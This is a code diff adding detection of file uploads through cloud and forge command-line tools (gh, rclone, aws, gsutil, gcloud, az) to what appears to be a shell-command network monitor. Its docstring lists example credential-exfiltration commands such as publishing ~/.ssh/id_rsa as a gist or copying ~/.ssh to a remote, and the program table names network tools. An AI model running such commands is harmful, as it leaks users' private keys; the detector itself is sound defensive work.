@@ -313,6 +313,50 @@ def _dns(w: Walker, prog: str, args: tuple[str, ...]) -> None:
             w.net("host", p.lstrip("@"), prog)
 
 
+_GH_VALUE = frozenset(
+    {"-d", "--desc", "-f", "--filename", "-R", "--repo", "-t", "--title", "-b", "--body",
+     "-F", "--body-file", "-n", "--notes", "--notes-file", "--target", "-w"}
+)  # fmt: skip
+_REMOTE_SPEC_RE = re.compile(r"^(?:s3|gs|az|r2|b2|wasbs?)://|^[A-Za-z0-9_.-]{2,}:(?!//)")
+
+
+def _uploads(w: Walker, prog: str, sources: list[str], dest: str | None) -> None:
+    """Local ``sources`` sent to a remote ``dest`` (bucket URL, ``remote:path``) are uploads."""
+    if dest is None or not _REMOTE_SPEC_RE.match(dest):
+        return
+    for src in sources:
+        if not _REMOTE_SPEC_RE.match(src) and src != "-":
+            w.file(src, prog, "upload")
+
+
+def _cloud_cli(w: Walker, prog: str, args: tuple[str, ...]) -> None:
+    """Files forge and cloud CLIs upload.
+
+    Attack class: a credential sent by a program the table above did not know: ``gh gist
+    create ~/.ssh/id_rsa``, ``gh release upload``, ``rclone copy ~/.ssh remote:x``, ``aws s3
+    cp``, ``gsutil cp``, ``gcloud storage cp``, ``az storage blob upload --file``."""
+    plain, opts = _split(args, _GH_VALUE if prog == "gh" else frozenset({"--body", "--file", "-f"}))
+    verb = tuple(plain[:2])
+    if prog == "gh":
+        files = plain[2:] if verb in (("gist", "create"), ("gist", "edit")) else []
+        if verb in (("release", "upload"), ("release", "create")):
+            files = plain[3:]
+        for k, v in opts:
+            if k in ("-F", "--body-file", "--notes-file") and v != "-":
+                files.append(v)
+        for f in files:
+            if f != "-":
+                w.file(f.split("#", 1)[0], prog, "upload")
+        return
+    if prog in ("aws", "az"):
+        for k, v in opts:
+            if k in ("--body", "--file", "-f") and v and not v.startswith(("s3://", "http")):
+                w.file(v.removeprefix("fileb://").removeprefix("file://"), prog, "upload")
+    rest = plain[2:] if prog in ("aws", "gcloud") else plain[1:]
+    if len(rest) >= 2 and (prog != "gcloud" or plain[:1] == ["storage"]):
+        _uploads(w, prog, rest[:-1], rest[-1])
+
+
 NETWORK_PROGRAMS: dict[str, Any] = {
     "curl": _curl, "wget": _wget, "wget2": _wget, "aria2c": _wget, "http": _wget,
     "https": _wget, "xh": _wget, "lynx": _wget, "w3m": _wget, "links": _wget,
@@ -324,6 +368,8 @@ NETWORK_PROGRAMS: dict[str, Any] = {
     "easy_install": _package, "poetry": _package, "conda": _package,
     "dig": _dns, "nslookup": _dns, "host": _dns, "ping": _dns, "ping6": _dns,
     "traceroute": _dns, "whois": _dns, "drill": _dns,
+    "gh": _cloud_cli, "rclone": _cloud_cli, "aws": _cloud_cli, "gsutil": _cloud_cli,
+    "gcloud": _cloud_cli, "az": _cloud_cli,
 }  # fmt: skip
 
 
